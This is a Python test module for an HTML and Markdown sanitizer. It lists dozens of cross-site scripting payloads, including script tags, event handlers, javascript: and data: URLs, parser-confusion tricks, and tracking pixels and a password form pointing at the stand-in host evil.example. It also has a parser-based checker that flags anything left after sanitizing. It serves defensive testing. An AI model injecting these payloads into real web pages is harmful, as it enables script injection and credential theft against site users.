"""Text that tries to run, load, frame or submit something, and the check that none of it is left."""

from __future__ import annotations

from collections.abc import Iterator

import html5lib

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert("x")</script>">',
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<div style="width: expression(alert(1))">x</div>',
    "<form action='//evil.example'><input name=password type=password><button formaction=javascript:alert(1)>x</form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/x.mp4 onerror=alert(1)><source src=//evil.example/y></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<body onload=alert(1)>x</body>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a name=document id=cookie href=x>x</a>",
    "<table background='//evil.example/x.png'><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<img src='//evil.example/pixel.gif' alt=p>",
    "<img srcset='//evil.example/pixel.gif 1x' src=x>",
    "<img src='\\\\evil.example\\x.png' alt=p>",
    "<img src='/\\evil.example/x.png' alt=p>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=p>",
    "<p onclick\x0b=alert(1) ONMOUSEOVER=alert(1)>x</p>",
    "<a href=x target=_top ping=//evil.example>x</a>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](x.png)',
    '[x](y "" onclick=alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "- [ ] <input type=text onfocus=alert(1) autofocus>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[[initiative:x|<img src=x onerror=alert(1)>]]",
    "`<script>`",
]

FORBIDDEN_ELEMENTS = frozenset(
    "script style iframe object embed applet form textarea select link meta base frame frameset template noscript "
    "title math xmp plaintext button use animate set foreignobject image marquee".split()
)
MEDIA_ATTRIBUTES = frozenset({"src", "srcset", "poster", "background", "data", "xlink:href", "action", "formaction"})
FORBIDDEN_ATTRIBUTES = frozenset(
    {"style", "srcdoc", "srcset", "background", "ping", "formaction", "autofocus", "action"}
)


def what_is_wrong(html: str, *, strict: bool = True) -> list[str]:
    """Return every element and attribute that must not be there, as a browser's parser builds them.

    ``strict`` also forbids drawings and media, as records have none.
    """
    forbidden = FORBIDDEN_ELEMENTS | ({"svg", "video", "audio", "source"} if strict else frozenset())
    wrong: list[str] = []
    for tag, attributes in _elements(html):
        if tag in forbidden:
            wrong.append(f"<{tag}>")
        for name, value in attributes.items():
            wrong += _wrong_attribute(tag, name, value)
    return wrong


def _elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if isinstance(element.tag, str):
            names = {str(name).rpartition("}")[2].lower(): value for name, value in element.attrib.items()}
            yield element.tag.rpartition("}")[2].lower(), names


def _wrong_attribute(tag: str, name: str, value: str) -> Iterator[str]:
    address = "".join(character for character in value.lower() if character > " ").replace("\\", "/")
    scheme, colon, _ = address.partition(":")
    if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
        yield f"{name} of <{tag}>"
    if name in MEDIA_ATTRIBUTES and (address.startswith("//") or ":" in address.split("/")[0]):
        yield f"{name}={value}"
    if name == "href" and colon and scheme.isalnum() and scheme not in ("http", "https", "mailto", "tel"):
        yield f"{name}={value}"
    if tag == "input" and name == "type" and value not in ("checkbox", "radio"):
        yield f"input type={value}"
